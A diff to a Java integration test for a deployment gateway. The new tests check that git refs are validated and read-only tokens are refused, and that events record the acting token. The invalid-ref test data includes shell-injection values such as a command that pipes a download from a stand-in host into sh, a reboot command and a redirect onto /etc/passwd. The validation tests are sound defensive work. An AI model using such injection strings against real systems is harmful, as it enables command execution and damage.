@@ -7,12 +7,16 @@ import java.time.Duration;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.stream.Stream;
 
 import org.awaitility.Awaitility;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.springframework.core.ParameterizedTypeReference;
 import org.springframework.http.HttpHeaders;
 import org.springframework.http.MediaType;
@@ -75,7 +79,8 @@ class DeploymentRequestsTest {
         assertThat(answer).containsEntry("app", "shop").containsEntry("ref", "v2")
                 .containsEntry("events", "/api/events?app=shop").containsKey("deploymentId");
         Envelope published = events.awaitEvent(DeployRequested.class, answer.get("deploymentId"));
-        assertThat(published.dataAs(DeployRequested.class)).isEqualTo(new DeployRequested("shop", "v2", null, "alice"));
+        assertThat(published.dataAs(DeployRequested.class))
+                .isEqualTo(new DeployRequested("shop", "v2", null, "alice", "ci"));
         assertThat(published.source()).isEqualTo("gateway");
         assertThat(published.subject()).isEqualTo("shop");
     }
@@ -105,7 +110,7 @@ class DeploymentRequestsTest {
 
         Envelope published = events.awaitEvent(RollbackRequested.class, answer.get("deploymentId"));
         assertThat(published.dataAs(RollbackRequested.class))
-                .isEqualTo(new RollbackRequested("shop", "bob", "checkout is slow"));
+                .isEqualTo(new RollbackRequested("shop", "bob", "checkout is slow", null, "ci"));
     }
 
     @Test
@@ -161,7 +166,7 @@ class DeploymentRequestsTest {
                 .containsEntry("ref", "v3");
         Envelope published = events.awaitEvent(CancelRequested.class, deploymentId);
         assertThat(published.dataAs(CancelRequested.class))
-                .isEqualTo(new CancelRequested("shop", "ci", "the acceptance tests failed"));
+                .isEqualTo(new CancelRequested("shop", "ci", "the acceptance tests failed", "ci"));
         assertThat(published.topic()).isEqualTo(Topics.LIFECYCLE);
         assertThat(events.events()).filteredOn(event -> event.data() instanceof CancelRequested)
                 .noneMatch(event -> event.data().toString().contains("wants it gone"));
@@ -198,7 +203,7 @@ class DeploymentRequestsTest {
                 .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
 
         assertThat(events.awaitEvent(RollbackRequested.class, deploymentId).dataAs(RollbackRequested.class))
-                .isEqualTo(new RollbackRequested("shop", "ci", RollbackRequest.NO_REASON));
+                .isEqualTo(new RollbackRequested("shop", "ci", RollbackRequest.NO_REASON, null, "ci"));
     }
 
     @Test
@@ -277,6 +282,123 @@ class DeploymentRequestsTest {
                 .expectBody().json("{\"error\":\"ref must not start with '-'\"}", true);
     }
 
+    static Stream<Arguments> refsThatBreakARule() {
+        String shell = "may hold only ASCII letters, digits and . _ - / + @, so that no shell reads it as code (such "
+                + "as $ ` ( ) ; | & ' \" < > ! { })";
+        return Stream.of(
+                Arguments.of("$(curl${IFS}evil.example|sh)", shell),
+                Arguments.of("`reboot`", shell),
+                Arguments.of("v2;reboot", shell),
+                Arguments.of("v2|sh", shell),
+                Arguments.of("v2&&reboot", shell),
+                Arguments.of("v2'", shell),
+                Arguments.of("v2\"", shell),
+                Arguments.of("v2>/etc/passwd", shell),
+                Arguments.of("caf\u00e9", shell),
+                Arguments.of("v\u202e2", shell),
+                Arguments.of("../../etc", "must not contain '..' (git's rule)"),
+                Arguments.of("v2~1", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
+                Arguments.of("v2^", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
+                Arguments.of("origin:v2", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
+                Arguments.of("v*", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
+                Arguments.of("v2\\x", "must not contain any of ~ ^ : ? * [ \\ (git's rule)"),
+                Arguments.of("main@{1}", "must not contain '@{' (git's rule)"),
+                Arguments.of("@", "must not be '@' alone (git's rule)"),
+                Arguments.of("/etc/passwd", "must not start with '/' or contain '//' (git's rule)"),
+                Arguments.of("feature//login", "must not start with '/' or contain '//' (git's rule)"),
+                Arguments.of("feature/", "must not end with '/' or '.' (git's rule)"),
+                Arguments.of("v2.", "must not end with '/' or '.' (git's rule)"),
+                Arguments.of(".hidden", "must not have a part that starts with '.' (git's rule)"),
+                Arguments.of("feature/.hidden", "must not have a part that starts with '.' (git's rule)"),
+                Arguments.of("main.lock", "must not have a part that ends with '.lock' (git's rule)"),
+                Arguments.of("v2\tx", "must not contain spaces or control characters"));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("refsThatBreakARule")
+    void aRefThatGitWouldRefuseOrAShellWouldReadAsCodeIs400NamingTheRuleAndPublishesNothing(String ref,
+            String rule) {
+        http.post().uri("/api/apps/shop/deployments")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue(Map.of("ref", ref, "requestedBy", "mallory-refs"))
+                .exchange()
+                .expectStatus().isBadRequest()
+                .expectBody().jsonPath("$.error").isEqualTo("ref " + rule);
+
+        assertNothingPublishedBy("mallory-refs");
+    }
+
+    @Test
+    void branchesTagsAndCommitsThatFollowGitsRulesAreDeployed() {
+        for (String ref : List.of("v1.4.0", "feature/login", "release/2026/11", "user@fix-1", "v1.0+build.5",
+                "4f9c2e1d0b7a6c5e4f3a2b1c0d9e8f7a6b5c4d3e")) {
+            String deploymentId = http.post().uri("/api/apps/shop/deployments")
+                    .contentType(MediaType.APPLICATION_JSON)
+                    .bodyValue(Map.of("ref", ref))
+                    .exchange()
+                    .expectStatus().isAccepted()
+                    .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
+            assertThat(events.awaitEvent(DeployRequested.class, deploymentId).dataAs(DeployRequested.class).ref())
+                    .isEqualTo(ref);
+        }
+    }
+
+    @Test
+    void everyRequestRecordsTheTokensNameAsItsActorWhateverRequestedBySaysAndTheHistoryShowsBoth() {
+        String deploymentId = http.post().uri("/api/apps/shop/deployments")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"alice\"}")
+                .exchange()
+                .expectStatus().isAccepted()
+                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
+        String rollbackId = http.post().uri("/api/apps/shop/rollbacks")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"requestedBy\":\"alice\"}")
+                .exchange()
+                .expectStatus().isAccepted()
+                .expectBody(JSON_OBJECT).returnResult().getResponseBody().get("deploymentId");
+
+        assertThat(events.awaitEvent(DeployRequested.class, deploymentId).dataAs(DeployRequested.class))
+                .extracting(DeployRequested::requestedBy, DeployRequested::actor).containsExactly("alice", "ci");
+        assertThat(events.awaitEvent(RollbackRequested.class, rollbackId).dataAs(RollbackRequested.class))
+                .extracting(RollbackRequested::requestedBy, RollbackRequested::actor).containsExactly("alice", "ci");
+        Awaitility.await().untilAsserted(() -> http.get().uri("/api/deployments/" + deploymentId).exchange()
+                .expectStatus().isOk()
+                .expectBody()
+                .jsonPath("$.requestedBy").isEqualTo("alice")
+                .jsonPath("$.actor").isEqualTo("ci")
+                .jsonPath("$.steps[0].summary").isEqualTo("alice via ci asked to deploy v2"));
+    }
+
+    @Test
+    void aReadOnlyTokenMayNotDeployRollBackPromoteOrCancel() {
+        WebTestClient reader = gateway.reader();
+        reader.post().uri("/api/apps/shop/deployments")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"ref\":\"v2\",\"requestedBy\":\"reader-only\"}")
+                .exchange()
+                .expectStatus().isForbidden()
+                .expectBody().json("{\"error\":\"This token may only read; deploying, rolling back, promoting and "
+                        + "cancelling need a token with scope deploy\"}", true);
+        reader.post().uri("/api/apps/shop/rollbacks")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"requestedBy\":\"reader-only\"}")
+                .exchange()
+                .expectStatus().isForbidden();
+        reader.post().uri("/api/apps/shop/promotions")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"deploymentId\":\"d-1\",\"requestedBy\":\"reader-only\"}")
+                .exchange()
+                .expectStatus().isForbidden();
+        reader.post().uri("/api/apps/shop/deployments/d-1/cancel")
+                .contentType(MediaType.APPLICATION_JSON)
+                .bodyValue("{\"requestedBy\":\"reader-only\"}")
+                .exchange()
+                .expectStatus().isForbidden();
+
+        assertNothingPublishedBy("reader-only");
+    }
+
     @Test
     void aRequestWithoutAValidTokenIs401AndPublishesNothing() {
         WebTestClient anonymous = gateway.http();
@@ -343,7 +465,7 @@ class DeploymentRequestsTest {
                 .expectBody().jsonPath("$.deploymentId").isEqualTo(deploymentId);
 
         assertThat(events.awaitEvent(PromoteRequested.class, deploymentId).dataAs(PromoteRequested.class))
-                .isEqualTo(new PromoteRequested("shop", "carol"));
+                .isEqualTo(new PromoteRequested("shop", "carol", "ci"));
     }
 
     @Test
